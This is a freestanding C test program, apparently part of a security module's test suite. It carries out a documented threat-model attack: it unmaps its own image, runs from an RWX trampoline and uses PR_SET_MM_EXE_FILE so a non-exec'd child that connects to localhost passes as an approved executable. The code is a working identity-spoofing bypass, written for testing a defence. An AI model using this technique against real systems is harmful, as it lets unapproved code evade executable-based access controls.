// SPDX-License-Identifier: GPL-2.0
/*
 * exe_swap FILE PORT: the PR_SET_MM_EXE_FILE attack (docs/THREAT-MODEL.md,
 * T-43), for qemu-tests/tests/it/attacks.rs `attack_exe_file_swap`.
 *
 * Points this process's mm->exe_file at FILE (an approved program), then
 * forks a child that never execs and connects to 127.0.0.1:PORT: a module
 * that credits such a child from its exe_file takes it for FILE.
 *
 * The kernel refuses the change while the old executable is still mapped,
 * so the code that makes it runs from an anonymous copy (section "tramp":
 * raw system calls, no globals, no calls) after unmapping the whole image.
 * Built freestanding (no libc) so nothing else maps the file.
 *
 * Exit status: 10 + errno if the change was refused; otherwise the child's:
 * 0 if it connected, 50 + errno if not (after the module qualified it).
 */
typedef unsigned long u64;

struct args {
	u64 exe_start, exe_len;
	long fd;
	struct {
		unsigned short family, port;
		unsigned int addr;
		unsigned char zero[8];
	} sa;
};

static inline __attribute__((always_inline)) long
sc6(long n, long a, long b, long c, long d, long e, long f)
{
	long r;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	register long r9 __asm__("r9") = f;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8),
			   "r"(r9)
			 : "rcx", "r11", "memory");
	return r;
}

#define sc(n, a, b, c, d, e) sc6(n, a, b, c, d, e, 0)

enum {
	SYS_open = 2, SYS_mmap = 9, SYS_munmap = 11, SYS_socket = 41,
	SYS_connect = 42, SYS_fork = 57, SYS_wait4 = 61, SYS_prctl = 157,
	SYS_exit_group = 231,
	PR_SET_MM = 35, PR_SET_MM_EXE_FILE = 13,
};

__attribute__((section("tramp"), noinline, used)) static void
stage2(struct args *a)
{
	long r, pid;
	int st = 0;

	sc(SYS_munmap, a->exe_start, a->exe_len, 0, 0, 0);
	r = sc(SYS_prctl, PR_SET_MM, PR_SET_MM_EXE_FILE, a->fd, 0, 0);
	if (r < 0)
		sc(SYS_exit_group, 10 - r, 0, 0, 0, 0);
	pid = sc(SYS_fork, 0, 0, 0, 0, 0);
	if (pid == 0) {
		long s = sc(SYS_socket, 2 /* AF_INET */, 1 /* STREAM */, 0, 0, 0);

		r = sc(SYS_connect, s, (long)&a->sa, 16, 0, 0);
		sc(SYS_exit_group, r < 0 ? 50 - r : 0, 0, 0, 0, 0);
	}
	sc(SYS_wait4, pid, (long)&st, 0, 0, 0);
	sc(SYS_exit_group, (st >> 8) & 0xff, 0, 0, 0, 0);
}

extern char __executable_start[], _end[], __start_tramp[], __stop_tramp[];

__attribute__((used)) void cmain(long *sp)
{
	char **argv = (char **)(sp + 1);
	struct args a = { 0 };
	volatile char *to;
	const char *p;
	unsigned port = 0;
	long n, i;

	if (sp[0] != 3)
		sc(SYS_exit_group, 2, 0, 0, 0, 0);
	a.fd = sc(SYS_open, (long)argv[1], 0, 0, 0, 0);
	if (a.fd < 0)
		sc(SYS_exit_group, 3, 0, 0, 0, 0);
	for (p = argv[2]; *p >= '0' && *p <= '9'; p++)
		port = port * 10 + (unsigned)(*p - '0');
	a.sa.family = 2;
	a.sa.port = (unsigned short)((port >> 8) | (port << 8));
	a.sa.addr = 0x0100007f; /* 127.0.0.1 */
	a.exe_start = (u64)__executable_start & ~4095UL;
	a.exe_len = (((u64)_end + 4095) & ~4095UL) - a.exe_start;
	n = __stop_tramp - __start_tramp;
	to = (volatile char *)sc6(SYS_mmap, 0, 4096, 7 /* RWX */,
				 0x22 /* PRIVATE|ANONYMOUS */, -1, 0);
	if ((long)to < 0 || n > 4096)
		sc(SYS_exit_group, 4, 0, 0, 0, 0);
	for (i = 0; i < n; i++)
		to[i] = __start_tramp[i];
	((void (*)(struct args *))(u64)to)(&a);
}

__asm__(".globl _start\n"
	"_start:\n"
	"	mov %rsp, %rdi\n"
	"	and $-16, %rsp\n"
	"	call cmain\n"
	"	hlt\n");
